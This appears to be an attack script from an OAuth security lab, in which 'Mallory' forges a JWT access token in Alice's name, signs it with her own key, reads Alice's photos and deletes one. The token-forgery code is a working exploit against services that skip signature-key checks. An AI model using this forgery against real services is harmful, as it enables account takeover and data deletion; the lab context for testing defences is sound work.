import { generateKeyPairSync, randomUUID, sign } from 'node:crypto'
import { subOf } from '../engine/databases.ts'
import type { Answer, Place } from '../engine/lab.ts'
import { readPhotos } from '../engine/own-client.ts'

/** Mallory writes a token in which she is allowed everything, signs it with a key of her own, and takes a photo away. */
export async function attack(place: Place): Promise<Answer> {
  const access_token = homeMade(place)
  const list = await readPhotos(place, { access_token })
  if (list.status !== 200) return list
  const { photos } = JSON.parse(list.text) as { photos: { id: string }[] }
  const headers = { Authorization: `Bearer ${access_token}` }
  await fetch(`${place.photos}/v1/photos/${photos[0]?.id}`, { method: 'DELETE', headers })
  return list
}

/** Something that is no token at all. */
export const wrongAttempt = (place: Place): Promise<Answer> => readPhotos(place, { access_token: 'let-me-in' })

function homeMade({ auth, photos, data }: Place): string {
  const now = Math.floor(Date.now() / 1000)
  // Who Alice is to CloudDrive is no secret: every app that she uses knows it.
  const about = { iss: auth, aud: photos, sub: subOf(data, 'alice'), client_id: 'printshop-web', jti: randomUUID() }
  const claims = { ...about, scope: 'photos.manage', iat: now, exp: now + 300 }
  const content = [{ typ: 'at+jwt', alg: 'ES256', kid: 'mallorys' }, claims]
    .map((part) => Buffer.from(JSON.stringify(part)).toString('base64url'))
    .join('.')
  const { privateKey } = generateKeyPairSync('ec', { namedCurve: 'P-256' })
  const signature = sign('sha256', Buffer.from(content), { key: privateKey, dsaEncoding: 'ieee-p1363' })
  return `${content}.${signature.toString('base64url')}`
}
